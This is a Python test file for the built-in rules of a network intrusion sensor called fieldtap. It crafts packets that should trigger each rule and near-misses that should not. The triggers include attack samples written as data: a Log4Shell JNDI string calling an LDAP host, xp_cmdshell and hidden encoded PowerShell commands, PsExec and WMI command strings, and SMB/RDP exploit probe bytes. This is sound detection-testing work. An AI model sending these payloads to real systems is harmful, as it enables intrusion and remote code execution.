#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""The rules that fieldtap brings: each fires on what it is for, and not on what is nearly that.

usage: test_builtin_rules.py PATH_OF_FIELDTAP PATH_OF_FIELDTAP_PLANT [unittest options]
"""

import base64
import json
import pathlib
import struct

import sensor
import traffic
from sensor import Case, of_type, pcap, run
from traffic import (ACK, C, FIN, PSH, RST, S, SYN, URG, attempt, der, dns, http, others, repeat,
                     tcp, tls, udp, wide)

FOLDER = pathlib.Path(__file__).resolve().parents[2] / "lib/rules/builtin"
KILL = "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwe"


# ---- pieces of traffic ----

def smb1(command, words=b"", body=b"", multiplex=64):
    """A request of SMB 1: its words as 16-bit numbers, and what follows."""
    header = (b"\xffSMB" + bytes([command]) + bytes(4) + b"\x18" + b"\7\xc0" + bytes(12)
              + struct.pack("<HHHH", 0x800, 0xFEFF, 0x800, multiplex))
    message = header + bytes([len(words) // 2]) + words + struct.pack("<H", len(body)) + body
    return struct.pack(">I", len(message)) + message


def trans2(setup):
    """TRANS2 with one setup word."""
    return smb1(0x32, struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 78,
                                  1, 0, setup), bytes(12))


def nt_transact(function, data=4):
    return smb1(0xA0, struct.pack("<BHIIIIIIIIBH", 1, 0, 4, data, 0, 0, 4, 76, 0, 0, 0, function),
                bytes(4))


def peek_pipe(function, handle):
    """TRANS on a named pipe."""
    return smb1(0x25, struct.pack("<HHHHBBHIHHHHHBBHH", 0, 0, 0xFFFF, 0xFFFF, 0, 0, 0, 0, 0, 0, 74,
                                  0, 74, 2, 0, function, handle), b"\\PIPE\\\0")


def smb2(body):
    return struct.pack(">I", len(body) + 64) + b"\xfeSMB\x40\0" + bytes(58) + body


def rpc_bind(interface):
    item = struct.pack("<HBB", 0, 1, 0) + interface + struct.pack("<I", 1) + bytes(20)
    body = struct.pack("<HHIB3x", 4280, 4280, 0, 1) + item
    return struct.pack("<BBBBIHHI", 5, 0, 11, 3, 0x10, 16 + len(body), 0, 1) + body


def rpc_request(operation, stub):
    return struct.pack("<BBBBIHHIIHH", 5, 0, 0, 3, 0x10, 24 + len(stub), 0, 1, len(stub), 0,
                       operation) + stub


def on_smb(data, port=445):
    return tcp(port, (C, data))


def bluekeep(channel):
    gcc = b"\x7f\x65" + bytes(40) + b"Duca" + bytes(60) + b"\3\xc0" + struct.pack("<HI", 20, 1)
    return tcp(3389, (C, traffic.tpkt(b"\2\xf0\x80" + gcc + channel.ljust(8, b"\0") + bytes(4))))


def tds(statement):
    body = wide(statement)
    return tcp(1433, (C, struct.pack(">BBHHBB", 1, 1, 8 + len(body), 0, 1, 0) + body))


def ntlm_challenge(challenge):
    return tcp(445, (C, smb2(b"ask")), (S, smb2(
        b"NTLMSSP\0" + struct.pack("<IHHII", 2, 12, 12, 56, 0xE28A8215) + challenge + bytes(8))))


def ftp_login(number, reply):
    return tcp(21, (S, b"220 ready\r\n"), (C, b"USER a\r\n"), (S, b"331 password\r\n"),
               (C, b"PASS b\r\n"), (S, reply), source=40000 + number)


def telnet_login(number, user, reply):
    return tcp(23, (S, b"login: "), (C, user + b"\r\n"), (S, b"\r\nPassword: "), (C, b"x\r\n"),
               (S, b"\r\n" + reply + b"\r\n"), source=40000 + number)


PROMPT = b"Last login: Monday\r\n$"


def telnet_logins(*replies):
    return repeat(len(replies), lambda i: telnet_login(i, b"root", replies[i]))


def to_controller(make):
    """After the server was seen to be a controller."""
    setup = traffic.s7_job(b"\xf0\0\0\1\0\1\1\xe0", reference=0)
    answer = traffic.s7(struct.pack(">BBHHHHH", 0x32, 3, 0, 0, 8, 0, 0) + b"\xf0\0\0\1\0\1\1\xe0")
    s7 = tcp(102, (C, traffic.cotp_connect()), (S, traffic.cotp_confirm()), (C, setup), (S, answer),
             (C, traffic.s7_job(b"\x29\0\0\0\0\0\x09P_PROGRAM", reference=2)),
             (S, traffic.s7(struct.pack(">BBHHHHH", 0x32, 3, 0, 2, 1, 0, 0) + b"\x29")))
    return repeat(2, lambda i: (s7, make)[i])


def refused(times):
    turns = ((C, traffic.http_request()), (S, traffic.http_response("401 Unauthorized")))
    return tcp(80, *(turns * times))


def s7_passwords(times):
    ask = traffic.s7_userdata(5, 1, b"\x55" * 8)
    return traffic.s7_talk(*[(C, ask)] * times)


def syslog(text, times=1):
    return udp(514, *[(C, f"<34>Oct 11 22:14:{15 + i % 40} plc sshd[{i}]: {text}".encode())
                      for i in range(times)])


def credentials(user):
    token = base64.b64encode(f"{user}:x".encode()).decode()
    return f"Authorization: Basic {token}\r\n"


def basic(user):
    return http(more=credentials(user))


def http_logins(*users, then="401 Unauthorized"):
    """One after another, refused; the last as told."""
    turns = []
    for i, user in enumerate(users):
        turns += [(C, traffic.http_request(more=credentials(user))),
                  (S, traffic.http_response("401 Unauthorized" if i + 1 < len(users) else then))]
    return tcp(80, *turns)


def discovers(times):
    def one(i):
        head = struct.pack(">BBBBIHH", 1, 1, 6, 0, 1000 + i, 0, 0x8000) + bytes(16)
        mac = b"\2\0\0\0" + struct.pack(">H", i)
        body = head + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + b"\x35\1\1\xff"
        return lambda client, server: [traffic.datagram(client, (255, 255, 255, 255), (68, 67),
                                                        body)]
    return repeat(times, one)


def nbstat(times):
    name = b"\x20CK" + b"A" * 30 + b"\0"
    return udp(137, *[(C, struct.pack(">6H", i + 1, 0, 1, 0, 0, 0) + name
                       + struct.pack(">HH", 33, 1)) for i in range(times)])


def device_ids(times):
    return repeat(times, lambda i: traffic.modbus(b"\x2b\x0e\1\0", transaction=i + 1,
                                                  source=40000 + i))


def monlist(request):
    return udp(123, (C, bytes((0x17, 0, 3, request)) + bytes(44)))


def ssh(software):
    return tcp(22, (S, b"SSH-2.0-OpenSSH_9.2\r\n"), (C, b"SSH-2.0-" + software + b"\r\n"))


def null_queries(times):
    return udp(53, *[(C, traffic.dns_query(f"z{i:04x}aa.t.example", 10, i + 1))
                     for i in range(times)])


def server(serial, **subject):
    return traffic.tls_server(traffic.certificate(serial, **subject))


def text_in_log(text):
    return syslog("user agent " + text)


def pings(times):
    return others(times, lambda i: traffic.icmp(8, rest=struct.pack(">HH", 7, i), data=bytes(8)))


def ports(times, answer=RST | ACK, **header):
    """Attempts to connect to ports one after another."""
    return repeat(times, lambda i: attempt(1000 + i, answer, 40000 + i, **header))


def refused_datagrams(times, source=40000):
    """Whoever sent them is told that nobody listens."""
    def one(i):
        def frames(client, server):
            inner = sensor.ipv4(17, client, server, struct.pack(">HHHH", source, 3000 + i, 8, 0))
            yield from traffic.icmp(3, 3, data=inner)(server, client)
        return frames
    return repeat(times, one)


def datagrams(times, first=3000):
    """To many ports, from another each, without an answer."""
    return repeat(times, lambda i: udp(first + i, (C, b"?"), source=50000 + i))


def ip_protocols(*numbers):
    return repeat(len(numbers), lambda i: lambda client, server: [
        sensor.ethernet(sensor.ipv4(numbers[i], client, server, bytes(8)))])


def snmp(community, oid=b"\x2b\6\1\2\1\1\1\0", number=1):
    """get-request of version 2c."""
    binding = der(0x30, der(6, oid), b"\5\0")
    pdu = der(0xA0, der(2, bytes([number])), der(2, b"\0"), der(2, b"\0"), der(0x30, binding))
    return udp(161, (C, der(0x30, der(2, b"\1"), der(4, community), pdu)))


def ftp_names(*names):
    turns = [(S, b"220 ready\r\n")]
    for name in names:
        turns += [(C, b"USER " + name + b"\r\n"), (S, b"331 password\r\n")]
    return tcp(21, *turns)


OPC_ENUM = bytes.fromhex("516d48132148d211a4943cb306c10000")


def opc_enumeration(times, number=OPC_ENUM):
    return others(times, lambda i: tcp(135, (C, rpc_request(4, bytes(40) + number)),
                                       source=40000 + i))


def reached_by(make):
    """The same, and then the server is seen to be a controller: who asks is one."""
    def frames(client, server):
        yield from to_controller(tcp(9999))(server, client)
        yield from make(client, server)
    return frames


NMAP_RPC = bytes.fromhex("72fe1d130000000000000002000186a00001977c") + bytes(20)
HAVEX = "/a.php?id=28574529632289617890098DF80D-20&v1=038&v2=170393861&q=5265882854508EFCF958F979E4"
STUXNET_RPC = bytes.fromhex("e104020000000000c000000000000046")
SRVSVC = bytes.fromhex("c84f324b7016d30112785a47bf6ee188")
MIMIKATZ = bytes.fromhex("e911fc1758c28d4b8d072f4125156244")
CONFICKER = bytes.fromhex("e8ffffffffc25f8d4f108031c4416681394d5375f5")
MMC = bytes.fromhex("1a79b249aeb1904c9b8ee860ba07f889")
TITLE = {"C": "US", "O": "Example", "CN": "Example"}

SYS_NAME = b"\x2b\6\1\2\1\1\5\0"

# id: (what fires it, what nearly does)
ROWS = {
    # malware.json
    9150001: (dns(f"www.{KILL}a.com"), dns(f"www.{KILL}.com")),
    9150002: (repeat(2, lambda i: (http(host=f"www.{KILL}a.com"), tls(f"{KILL}b.com"))[i]),
              tls("iuqerf.com")),
    9150003: (on_smb(smb1(0x75, b"\xff\0", wide("\\\\192.168.56.20\\IPC$"))),
              on_smb(smb1(0x75, b"\xff\0", wide("\\\\192.168.56.21\\IPC$")))),
    9150004: (on_smb(trans2(14)), on_smb(trans2(5))),
    9150005: (tcp(3389, (C, bytes.fromhex("0300000e02f0803c443728190200"))),
              tcp(3389, (C, bytes.fromhex("0300000e02f0803c443728190300")))),
    9150006: (on_smb(nt_transact(5)), on_smb(nt_transact(6))),
    9150007: (on_smb(smb2(CONFICKER), 139), on_smb(smb2(CONFICKER[:-1]), 139)),
    9150008: (http(url="/search?q=12", host="203.0.113.7"), http(url="/search?q=12")),
    9150009: (repeat(2, lambda i: (dns("www.mypremierfutbol.com"),
                                   http(host="www.todaysfutbol.com"))[i]),
              dns("www.todaysfutbol.org")),
    9150010: (http(url="/index.php?data=66a96e28de8daedbe0102030"),
              http(url="/index.php?data=66a96e29de8daedbe0102030")),
    9150011: (on_smb(rpc_bind(STUXNET_RPC), 139), on_smb(rpc_bind(SRVSVC), 139)),
    9150012: (udp(1434, (C, b"\4" + b"\1" * 375)), udp(1434, (C, b"\4" + b"\1" * 16))),
    9150013: (http(url=HAVEX), http(url="/a.php?id=28574529&v1=038&v2=170393861&q=52658828")),
    9150014: (tcp(80, (C, traffic.http_request()),
                  (S, traffic.http_response(body=b"<html>no data<!--havexQUJD--></html>"))),
              tcp(80, (C, traffic.http_request()),
                  (S, traffic.http_response(body=b"<html>no data<!-- havex --></html>")))),
    9150015: (http(method="POST", url="/g.php", body=b"id=xPLANT_A1B2C3D4&build_id=B1"),
              http(method="POST", url="/g.php", body=b"id=PLANT_A1B2C3D4&build_id=B1")),
    9150016: (udp(50000, (C, bytes.fromhex("11490000000000000000000000000000289e"))),
              udp(50000, (C, bytes.fromhex("11490000000000000000000000000000289f")))),
    9150017: (http(method="POST", url="/cgi-bin/cpu.fcgi", body=b"a=1"),
              http(url="/cgi-bin/cpu.fcgi")),
    9150018: (traffic.broadcast(1502, bytes.fromhex("060000000088")),
              udp(1502, (C, bytes.fromhex("060000000088")))),
    9150019: (tcp(3333, (C, b'{"id":1,"method":"mining.subscribe","params":[]}\n')),
              tcp(3333, (C, b'{"id":1,"method":"sensor.subscribe","params":[]}\n'))),
    9150020: (repeat(2, lambda i: (dns("pool.supportxmr.com"), tls("xmr-eu1.nanopool.org"))[i]),
              dns("nanopool.org.example")),
    9150021: (on_smb(smb2(wide("windows\\mssecsvc.exe"))), on_smb(smb2(wide("mssecsvc.log")))),
    9150022: (on_smb(smb2(wide("infpub.dat"))), on_smb(smb2(wide("perfc009.dat")))),
    # attacks.json
    9150040: (on_smb(peek_pipe(0x23, 0)), on_smb(peek_pipe(0x23, 0x4000))),
    9150041: (on_smb(b"\0\0\0\x20\xfcSMB" + b"\xff" * 4 + bytes(24)),
              on_smb(b"\0\0\0\x20\xfcSMB\0\x10\0\0" + bytes(24))),
    9150042: (bluekeep(b"MS_T120"), bluekeep(b"rdpsnd")),
    9150043: (tcp(49667, (C, b"\5\0\0\3" + bytes(40) + wide("PLANT$\0") + bytes(8)
                          + b"\xff\xff\x2f\x21")),
              tcp(49667, (C, b"\5\0\0\3" + bytes(40) + wide("PLANT$\0") + b"8bytekey"
                          + b"\xff\xff\x2f\x21"))),
    9150044: (text_in_log("${jndi:ldap://192.0.2.1/a}"), text_in_log("${jndi-like}")),
    9150045: (tcp(1389, (C, b"\x30\x0c"), (S, b"\x30\x40\2\1\2javaCodeBase http://192.0.2.1/")),
              tcp(1389, (C, b"\x30\x0c"), (S, b"\x30\x40\2\1\2description: java beans"))),
    9150046: (http(url="/Exploit.class", agent="Java/1.8.0_102"),
              http(url="/Exploit.class")),
    9150047: (tds("EXEC master..xp_CmdShell 'dir'"), tds("SELECT * FROM xp_shell")),
    9150048: (tds("User ID=WinCCConnect"), tds("User ID=WinCC")),
    9150049: (ntlm_challenge(bytes.fromhex("1122334455667788")),
              ntlm_challenge(bytes.fromhex("1122334455667789"))),
    9150050: (on_smb(rpc_bind(MIMIKATZ), 135), on_smb(smb2(MIMIKATZ))),
    9150051: (on_smb(smb2(wide("PSEXESVC.exe"))), on_smb(smb2(wide("PSEXE.txt")))),
    9150052: (on_smb(smb2(wide("RemCom_communicaton"))), on_smb(smb2(wide("RemCommand")))),
    9150053: (on_smb(smb2(wide("%COMSPEC% /Q /c echo cd"))),
              on_smb(smb2(wide("%COMSPEC% /c echo cd")))),
    9150054: (refused(30), refused(29)),
    9150056: (repeat(10, lambda i: ftp_login(i, b"530 no\r\n")),
              repeat(9, lambda i: ftp_login(i, b"530 no\r\n"))),
    9150057: (repeat(5, lambda i: telnet_login(i, b"root", b"Login incorrect")),
              repeat(4, lambda i: telnet_login(i, b"root", b"Login incorrect"))),
    9150058: (http_logins(*["root"] * 5), http_logins(*["root"] * 4)),
    9150059: (s7_passwords(5), s7_passwords(4)),
    9150060: (syslog("Failed password for root", 10), syslog("Failed password for root", 9)),
    9150061: (repeat(2, lambda i: (telnet_login(0, b"sysdiag", b"$"), basic("fdrusers"))[i]),
              basic("sysdiags")),
    9150062: (syslog("The audit log was cleared"), syslog("The audit log was rotated")),
    9150063: (discovers(100), discovers(99)),
    9150064: (to_controller(ftp_login(0, b"230 in\r\n")), ftp_login(0, b"230 in\r\n")),
    9150065: (on_smb(nt_transact(0, 0x10016)), on_smb(nt_transact(1, 0x10016))),
    9150066: (on_smb(smb2(rpc_request(31, wide("\\AAAA\\..\\..\\B")))),
              on_smb(smb2(rpc_request(15, wide("\\AAAA\\..\\..\\B"))))),
    9150067: (on_smb(smb2(wide("/C dir > %windir%\\Temp\\AbCdEfGh.tmp 2>&1"))),
              on_smb(smb2(wide("/C dir > %windir%\\Temp\\AbCdEfGh.tmp")))),
    9150068: (tcp(135, (C, rpc_request(4, bytes(40) + MMC))),
              tcp(135, (C, rpc_request(4, bytes(40) + MMC[::-1])))),
    9150069: (tcp(49668, (C, rpc_request(14, b"\0CommandLineEventConsumer\0"))),
              tcp(49668, (C, rpc_request(14, b"\0NTEventLogEventConsumer\0")))),
    9150070: (tcp(49668, (C, rpc_request(24, b"\0cmd.exe /Q /c whoami 1> a.txt\0"))),
              tcp(49668, (C, rpc_request(24, b"\0cmd.exe /c whoami\0")))),
    9150071: (others(5, lambda i: ftp_login(i, b"530 no\r\n")),
              others(4, lambda i: ftp_login(i, b"530 no\r\n"))),
    9150072: (ftp_names(b"a", b"b", b"c", b"d", b"e"),
              ftp_names(b"a", b"b", b"c", b"d", b"a", b"b")),
    9150073: (repeat(5, lambda i: telnet_login(i, b"user%d" % i, b"$")),
              repeat(8, lambda i: telnet_login(i, b"user%d" % (i // 2), b"$"))),
    9150074: (repeat(5, lambda i: snmp(b"secret%d" % i, SYS_NAME, i)),
              repeat(8, lambda i: snmp(b"secret%d" % (i // 2), SYS_NAME, i))),
    9150075: (on_smb(smb2(wide("powershell.exe -NoP -W Hidden -enc SQBFAFgA"))),
              on_smb(smb2(wide("powershell.exe -File a.ps1")))),
    9150076: (repeat(4, lambda i: ftp_login(i, (b"530 no", b"230 in")[i == 3] + b"\r\n")),
              repeat(3, lambda i: ftp_login(i, (b"530 no", b"230 in")[i == 2] + b"\r\n"))),
    9150077: (telnet_logins(b"Login incorrect", b"Login incorrect", b"Login incorrect", PROMPT),
              telnet_logins(b"Login incorrect", b"Login incorrect", PROMPT, PROMPT)),
    9150078: (http_logins("a", "a", "a", "a", then="200 OK"),
              http_logins("a", "a", "a", then="200 OK")),
    9150079: (others(2, lambda i: http_logins(*("abc", "cde")[i])),
              others(2, lambda i: http_logins(*("abc", "bcd")[i]))),
    # scans.json
    9150080: (http(url="/nice%20ports%2C/Tri%6Eity.txt%2ebak"), http(url="/nice%20ports/a.txt")),
    9150081: (http(agent="Mozilla/5.0 (compatible; CensysInspect/1.1)"), http(agent="census")),
    9150082: (dns("version.bind", 16, 3), dns("version.bind", 16, 1)),
    9150083: (tcp(3389, (C, b"\3\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n")),
              tcp(3389, (C, b"\3\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=anna\r\n"))),
    9150084: (udp(5060, (C, b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm\r\n\r\n")),
              udp(5060, (C, b"OPTIONS sip:pm SIP/2.0\r\nVia: SIP/2.0/UDP nm\r\n\r\n"))),
    9150085: (repeat(2, lambda i: (udp(111, (C, NMAP_RPC)),
                                   tcp(111, (C, b"\x80\0\0\x28" + NMAP_RPC)))[i]),
              udp(111, (C, b"\x72\xfe\x1d\x14" + NMAP_RPC[4:]))),
    9150086: (ssh(b"Nmap-SSH2-Hostkey"), ssh(b"OpenSSH_9.6 Nmap")),
    9150087: (nbstat(50), nbstat(49)),
    9150088: (device_ids(30), device_ids(29)),
    9150089: (monlist(42), monlist(4)),
    9150090: (pings(20), pings(19)),
    9150092: (ports(15), repeat(2, lambda i: (ports(14), ports(40, SYN | ACK))[i])),
    9150094: (others(20, lambda i: attempt(80, RST | ACK, 40000 + i)),
              others(38, lambda i: attempt(80 + i % 2, RST | ACK, 40000 + i))),
    9150095: (others(5, lambda i: attempt(502, RST | ACK, 40000 + i)),
              others(20, lambda i: attempt((502, 102)[i % 2], (RST if i < 8 else SYN) | ACK,
                                           40000 + i))),
    9150096: (repeat(3, lambda i: attempt(1000 + i, RST | ACK, flags=(0, FIN, FIN | PSH | URG)[i])),
              repeat(3, lambda i: attempt(1000 + i // 2, RST | ACK, flags=FIN))),
    9150097: (ports(10, RST, flags=ACK),
              repeat(2, lambda i: (ports(9, RST, flags=ACK),
                                   repeat(20, lambda k: tcp(1200 + k, source=50000 + k)))[i])),
    9150098: (refused_datagrams(10),
              repeat(2, lambda i: (refused_datagrams(9), refused_datagrams(20, 53))[i])),
    9150099: (datagrams(15), repeat(2, lambda i: (datagrams(14), datagrams(40, 33434))[i])),
    9150120: (ports(3, window=2048, options=b"\2\4\5\xb4"),
              repeat(2, lambda i: (ports(2, window=2048, options=b"\2\4\5\xb4"),
                                   ports(9, window=2048, options=b"\2\4\5\xb4\1\1\4\2"))[i])),
    9150121: (attempt(80, window=65535, number=54321), attempt(80, window=65535, number=54322)),
    9150122: (attempt(80, flags=FIN | SYN | PSH | URG, window=256),
              attempt(80, flags=SYN | PSH | ACK, window=256)),
    9150123: (ip_protocols(3, 5, 7, 8, 9, 10, 11, 12),
              ip_protocols(3, 5, 7, 8, 9, 10, 11, 11, 1, 2, 6, 17, 58)),
    9150124: (repeat(2, lambda i: traffic.icmp((13, 17)[i], data=bytes(12))),
              repeat(2, lambda i: traffic.icmp((13, 8)[i], data=bytes(12)))),
    9150125: (others(5, lambda i: (nbstat(1), snmp(b"public"))[i % 2]),
              others(4, lambda i: (nbstat(1), snmp(b"public"))[i % 2])),
    9150126: (opc_enumeration(2), repeat(3, lambda i: (
        opc_enumeration(1), opc_enumeration(1), opc_enumeration(2, OPC_ENUM[::-1]))[i])),
    # tunnels.json
    9150100: (dns("dnscat.0123456789abcdef.example"), dns("dnscat.documentation.example")),
    9150101: (dns("AAAAAA.=auth.t.example", 16), dns("AAAAAA.=auth.t.example", 1)),
    9150102: (null_queries(5), null_queries(4)),
    9150103: (dns("aaa.stage.14919005.t.example"), dns("aaa.stages.14919005.t.example")),
    9150104: (server(b"\x08\xbb\0\xee", **TITLE), server(b"\x08\xbb\0\xef", **TITLE)),
    9150105: (server(b"\1", CN="AsyncRAT Server"), server(b"\1", CN="Async Server")),
    9150106: (dns("abcdefghijklmnop.onion"), dns("onion.example")),
    9150107: (tls("dns.google"), tls("dns.google.example")),
    9150108: (repeat(3, lambda i: (dns("router1.teamviewer.com"), tls("relay.anydesk.com"),
                                   http(host="x.logmein.com"))[i]),
              dns("teamviewer.com.example")),
    9150109: (repeat(2, lambda i: (dns("tunnel.ngrok.com"), tls("a.trycloudflare.com"))[i]),
              tls("cloudflare.com")),
    9150110: (tcp(5938, (C, b"\x17$")), tcp(5939, (C, b"\x17$"))),
    9150111: (reached_by(http(port=3128, method="CONNECT", url="a.example:443")),
              http(port=3128, method="CONNECT", url="a.example:443")),
    9150112: (tcp(1080, (C, b"\5\1\0"), (S, b"\5\0")), tcp(1080, (C, b"\6\1\0"))),
}


def rules():
    return [rule for path in sorted(FOLDER.glob("*.json"))
            for rule in json.loads(path.read_text())["rules"]]


def title(number):
    return next(rule["title"] for rule in rules() if rule["id"] == number)


def packets(which):
    """The traffic of all rows, each between two hosts of its own, and the row of each packet."""
    frames, row_of = [], []
    for i, (rule, row) in enumerate(ROWS.items()):
        for frame in row[which]((10, 1, i, 1), (10, 1, i, 2)):
            frames.append((len(frames) * 0.0005, frame))
            row_of.append(rule)
    frames.append((frames[-1][0] + 100, sensor.udp(b"later")))  # what had no answer has none
    return frames, row_of


class BuiltIn(Case):
    """All rows in one capture, those that fire and those that nearly do in another."""

    def test_each_has_its_row(self):
        ids = [rule["id"] for rule in rules()]
        self.assertEqual(sorted(set(ids)), sorted(ids))
        self.assertEqual(sorted(ids), sorted(ROWS))
        self.assertTrue(all(9150000 < i < 9160000 for i in ids))

    def test_each_says_everything(self):
        for rule in rules():
            with self.subTest(rule["id"]):
                for key in ("title", "message", "severity", "engine", "category", "mitre", "when",
                            "remediation", "reference"):
                    self.assertTrue(rule.get(key), key)

    def test_they_are_sound(self):
        r = run("--check-rules", FOLDER)
        self.assertEqual((r.code, r.err), (0, ""), "no errors, and no remarks on what they cost")
        self.assertTrue(r.out.endswith(f"rules: {len(ROWS)} accepted, 0 refused\n"), r.out)

    def test_replaced(self):
        """One is switched off, one told once; checked as it is started with."""
        conversation = repeat(2, lambda i: (dns("dnscat.0123456789abcdef.example"),
                                            http(url="/nice%20ports%2C/Tri%6Eity.txt%2ebak"))[i])
        capture = self.write("a.pcap", pcap(
            [(i * 0.001, f) for i, f in enumerate(conversation((10, 1, 1, 1), (10, 1, 1, 2)))]))
        self.write("own.json", json.dumps({"rules": [
            {"id": 9150100, "enabled": False},
            {"id": 9150080, "title": "Somebody runs Nmap", "severity": "warning"}]}).encode())
        remarks = [f'own.json:1:13: id: this switches off rule 9150100, "{title(9150100)}", that '
                   'comes with fieldtap (a remark)',
                   f'own.json:1:48: id: this replaces rule 9150080, "{title(9150080)}", that comes '
                   'with fieldtap (a remark)']
        r = run("--check-rules", "own.json", cwd=self.dir)
        self.assertEqual((r.code, r.out, r.err.splitlines()),
                         (0, "rules: 2 accepted, 0 refused\n", remarks))
        r = run("-q", "-r", capture, "-l", self.out, "--rules", "own.json", cwd=self.dir)
        self.assertEqual((r.code, r.err.splitlines()), (0, remarks))
        alerts = {a["alert"]["signature_id"]: a for a in of_type(self.events(), "alert")
                  if a["alert"]["signature_id"] < 9200000}
        self.assertNotIn(9150100, alerts)
        self.assertEqual(alerts[9150080]["alert"]["signature"], "Somebody runs Nmap")
        self.assertEqual(alerts[9150080]["fieldtap"]["rule"]["file"], "own.json")
        self.assertEqual(alerts[9150080]["fieldtap"]["rule"]["built_in"], False)
        self.assertIn("remark", alerts[9150080]["fieldtap"])
        self.assertTrue(alerts[9150080]["fieldtap"]["mitre"], "as the rule said before")

    def alerts(self, which):
        """Ids that fired, by the row between whose hosts."""
        capture = self.write("a.pcap", pcap(packets(which)[0]))
        self.assertOk(run("-q", "-r", capture, "-l", self.out))
        fired = {}
        for alert in of_type(self.events(), "alert"):
            number = alert["alert"]["signature_id"]
            if 9150000 < number < 9160000:
                host = next(ip for ip in (alert["src_ip"], alert["dest_ip"])
                            if ip.startswith("10.1."))
                row = list(ROWS)[int(host.split(".")[2])]
                fired.setdefault(row, set()).add(number)
        return fired

    def test_they_fire(self):
        self.assertEqual(self.alerts(0), {rule: {rule} for rule in ROWS})

    def test_near_misses(self):
        self.assertEqual(self.alerts(1), {})


if __name__ == "__main__":
    sensor.main()
